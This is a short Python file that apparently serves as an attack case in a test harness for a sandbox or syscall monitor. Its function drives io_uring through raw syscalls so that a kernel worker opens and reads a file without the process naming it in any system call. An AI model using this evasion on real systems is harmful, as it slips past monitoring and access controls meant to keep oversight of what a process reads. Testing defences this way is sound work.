import ctypes
import mmap
import os
import struct


def attack(scene, oracle):
    """Have a worker of the kernel open the file: no system call of this process names it."""
    libc = ctypes.CDLL(None, use_errno=True)
    setup = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, setup)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    submission = struct.unpack_from("7I", setup, 40)  # head, tail, mask, entries, flags, ...
    completion = struct.unpack_from("7I", setup, 80)
    rings = mmap.mmap(ring, 4096, offset=0)
    entries = mmap.mmap(ring, 4096, offset=0x10000000)
    path = ctypes.create_string_buffer(scene["reference"].encode())
    entry = struct.pack("<BBHiQQIIQ", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0, 7)
    entries[: len(entry)] = entry
    struct.pack_into("I", rings, submission[6], 0)
    struct.pack_into("I", rings, submission[1], 1)
    if libc.syscall(426, ring, 1, 1, 1, None, 0) != 1:
        raise OSError(ctypes.get_errno(), "io_uring_enter")
    _, opened = struct.unpack_from("<Qi", rings, completion[5])
    if opened < 0:
        raise OSError(-opened, "open in the ring")
    return os.read(opened, 65536)
